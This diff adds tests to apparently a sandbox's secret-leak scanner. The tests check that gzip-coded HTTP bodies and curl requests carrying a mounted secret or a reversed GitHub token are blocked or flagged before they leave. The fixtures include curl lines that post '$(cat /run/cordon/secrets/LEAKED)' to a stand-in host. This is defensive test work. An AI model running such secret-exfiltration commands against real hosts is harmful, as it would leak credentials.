@@ -6,9 +6,15 @@ Every place and form once for each action; the control is the same act under a p
 
 import base64
 import gzip
+import json
+import os
+import re
+import socket
 import subprocess
 import sys
+import threading
 import urllib.parse
+import zlib
 
 PY = sys.executable if sys.executable.startswith('/usr') else '/usr/bin/python3'
 VALUE = 'Lk7xQ2mNp9Rt4Vw8Yb3Zc6Df'
@@ -128,6 +134,126 @@ def label(r, name, policy, host, want, rule='stored-secret'):
     r.result(name, problem and problem + '; said %r' % text[:200])
 
 
+# Runs inside: a body in gzip of which all but the end is sent; then, after a while, the end.  A server that hears bytes before the
+# last ones come has heard what was not judged.
+HALVES = r'''
+import gzip, os, socket, sys, time
+size, framing, what, host = int(sys.argv[1]), sys.argv[2], sys.argv[3], 'web.example.org'
+body = gzip.compress(os.urandom(size) + (os.environ['LEAKED'].encode() if what == 'value' else b''))
+if what == 'cut': body = body[:-12]
+s = socket.create_connection((host, 8070)); s.settimeout(10)
+s.sendall(b'POST /x HTTP/1.1\r\nHost: web.example.org:8070\r\nContent-Encoding: gzip\r\n' +
+          (b'Transfer-Encoding: chunked' if framing == 'chunked' else b'Content-Length: %d' % len(body)) + b'\r\nConnection: close\r\n\r\n')
+try:
+    for part in (body[:-100], body[-100:]):
+        s.sendall(b'%x\r\n%s\r\n' % (len(part), part) if framing == 'chunked' else part); time.sleep(0.4)
+    if framing == 'chunked': s.sendall(b'0\r\n\r\n')
+    print(s.recv(65536)[:400])
+except OSError as e:
+    print('closed', e)
+'''
+
+
+class Raw(threading.Thread):
+    """A server that notes every byte, and answers when the body is whole."""
+
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.got = []
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(('203.0.113.5', 8070))
+        self.sock.listen(8)
+
+    def run(self):
+        while True:
+            c = self.sock.accept()[0]
+            at = len(self.got)
+            self.got.append(b'')
+            c.settimeout(10)
+            try:
+                while True:
+                    data = c.recv(65536)
+                    self.got[at] += data
+                    head, _, body = self.got[at].partition(b'\r\n\r\n')
+                    length = re.search(rb'(?i)content-length: (\d+)', head)
+                    if not data or (len(body) >= int(length.group(1)) if length else body.endswith(b'0\r\n\r\n')):
+                        break
+                c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nwhole')
+            except OSError:
+                pass
+            c.close()
+
+
+def plain(raw):
+    """What a request on the wire had in it; cut short, as far as it goes."""
+    head, _, body = raw.partition(b'\r\n\r\n')
+    if b'chunked' in head.lower():
+        parts = b''
+        while body and not body.startswith(b'0\r\n'):
+            size, _, rest = body.partition(b'\r\n')
+            parts, body = parts + rest[:int(size, 16)], rest[int(size, 16) + 2:]
+        body = parts
+    return body, zlib.decompressobj(31).decompress(body)
+
+
+def halves(r, policies):
+    """A body in a coding leaves when it is judged, and not a byte of it before."""
+    server = Raw()
+    server.start()
+
+    def row(name, policy, words, want, rule=''):
+        name = 'leak: coded, ' + name
+        if not r.wanted(name):
+            return
+        server.got.clear()
+        text, report = r.run(['-p', policies[policy]], [PY, '-c', HALVES, *words])
+        bodies = [plain(g) for g in server.got]
+        problem = ''
+        if want == 'arrives' and ('whole' not in text or [len(b[1]) for b in bodies] != [int(words[0]) + (len(VALUE) if words[2] == 'value' else 0)]):
+            problem = 'arrived %r' % [len(b[1]) for b in bodies]
+        elif want == 'refused' and (any(b[0] for b in bodies) or not any(rule in d['rule'] for d in report['denied'])):
+            problem = '%r bytes had left; denied %r' % ([len(b[0]) for b in bodies], report['denied'])
+        r.result(name, problem and problem + '; said %r' % text[:300])
+    for framing in ('length', 'chunked'):
+        row('%s, nothing of it leaves' % framing, 'coded', ['20000', framing, 'value'], 'refused', 'stored secret')
+        row('%s, a harmless one arrives' % framing, 'coded', ['20000', framing, 'none'], 'arrives')
+        row('%s, cut short' % framing, 'coded', ['20000', framing, 'cut'], 'refused', 'in a coding')
+        row('%s, too long to be held' % framing, 'coded', ['90000', framing, 'none'], 'refused', 'too long')
+        row('%s, long, where it is only told' % framing, 'told', ['90000', framing, 'value'], 'arrives')
+
+
+def kept(r, policies):
+    """In a sandbox that stays each call hears how often its proxy found something."""
+    name = 'leak: in a sandbox that stays'
+    if r.backend or not r.wanted(name):
+        return
+    for policy, end in (('file', 'hidden or refused'), ('file-told', 'passed on')):
+        sandbox = [*r.prefix, r.cordon, 'sandbox']
+        made = subprocess.run([*sandbox, 'create', '--cwd', r.workspace, '-p', policies[policy]], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
+        box = made.stdout.decode().strip()
+
+        def enter(command):
+            report = r.scratch + '/kept-leak.json'
+            done = subprocess.run([*sandbox, 'exec', '-q', '--report', report, box, '--', 'sh', '-c', command], stdout=subprocess.PIPE,
+                                  stderr=subprocess.STDOUT, timeout=60, stdin=subprocess.DEVNULL, check=False)
+            with open(report) as file:
+                value = json.load(file)
+            os.unlink(report)
+            return done.stdout.decode('latin-1'), [(f['rule'], f['message']) for f in value['verdict']['findings'] if 'on the way out' in f['message']]
+        try:
+            curl = 'curl -sS -m 10 http://web.example.org/'
+            for what, command, rule in (('a value', curl + 'a -d "k=$(cat /run/cordon/secrets/LEAKED)"', 'stored-secret'), ('nothing', curl + 'b', None),
+                                        ('a token', curl + 'c -H "X-Key: $(printf %%s %s | rev)"' % GITHUB[::-1], 'SECRET-BY-RULE')):
+                text, found = enter(command)
+                good = [f[0] for f in found] == ([rule] if rule else []) and all(f[1].endswith('1 times: ' + end) for f in found)
+                r.result('%s (%s): %s' % (name, policy, what), '' if good and '/' in text else 'found %r; said %r' % (found, text[:300]))
+        except Exception as e:  # pylint: disable=broad-except
+            r.result('%s (%s)' % (name, policy), repr((e, box)))
+        finally:
+            subprocess.run([*sandbox, 'rm', '--force', box], stdout=subprocess.DEVNULL, check=False)
+
+
 def cut(text, n=20):
     return '.'.join(text[i:i + n] for i in range(0, len(text), n))
 
@@ -160,7 +286,9 @@ def run(r):
     # One that is bound may only be given to a call that can speak to nobody else.
     bound = (POLICY % (', hosts: [api.example.org]', SCAN % 'block')).replace('web.example.org, ', '').replace(', "web.example.org:8080"', '').replace(
         ', "*.wild.example.org"', '')
-    for name, text in {'bound': bound, 'nothing': POLICY % ('', ''), **{a: POLICY % ('', SCAN % a) for a in ('redact', 'block', 'warn')}}.items():
+    coded = {name: (POLICY % ('', SCAN % action)).replace('"web.example.org:8080"', '"web.example.org:8070"') for name, action in (('coded', 'block'), ('told', 'warn'))}
+    files = {name: (POLICY % ('', SCAN % action)).replace('injection: environment', 'injection: file-mount') for name, action in (('file', 'redact'), ('file-told', 'warn'))}
+    for name, text in {**coded, **files, 'bound': bound, 'nothing': POLICY % ('', ''), **{a: POLICY % ('', SCAN % a) for a in ('redact', 'block', 'warn')}}.items():
         policies[name] = '%s/leak-%s.yaml' % (r.scratch, name)
         with open(policies[name], 'w') as file:
             file.write(text)
@@ -187,3 +315,5 @@ def run(r):
     r.allowed('leak: a large body without one', ['-p', policies['redact']], ['curl', '-sS', '-m', '20', '-H', 'Expect:', '--data-binary', '@/usr/bin/env',
               'http://web.example.org/post'], r'body=\d{5}')
     names(r, policies)
+    halves(r, policies)
+    kept(r, policies)
